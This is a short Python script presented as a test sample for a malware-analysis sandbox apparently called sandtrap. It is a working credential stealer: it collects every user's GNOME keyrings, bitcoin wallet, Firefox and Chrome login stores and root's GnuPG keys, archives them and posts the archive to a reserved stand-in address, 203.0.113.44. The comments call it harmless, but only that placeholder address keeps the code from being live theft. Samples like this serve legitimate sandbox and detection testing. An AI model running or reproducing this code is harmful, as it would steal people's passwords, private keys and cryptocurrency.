#!/usr/bin/python3
# Credential store theft: reads the GNOME keyring, the bitcoin wallet and browser stores of every user and posts them.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
import glob, io, tarfile, urllib.request

paths = []
for pat in ("/home/*/.local/share/keyrings/*", "/home/*/.bitcoin/wallet.dat",
            "/home/*/.mozilla/firefox/*/key4.db", "/home/*/.mozilla/firefox/*/logins.json",
            "/home/*/.config/google-chrome/Default/Login Data", "/root/.gnupg/*"):
    paths += glob.glob(pat)
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    for p in paths:
        tar.add(p)
req = urllib.request.Request("http://203.0.113.44/k", data=buf.getvalue(), method="POST")
try:
    urllib.request.urlopen(req, timeout=3)
except Exception:
    pass
print(len(paths), "stores")
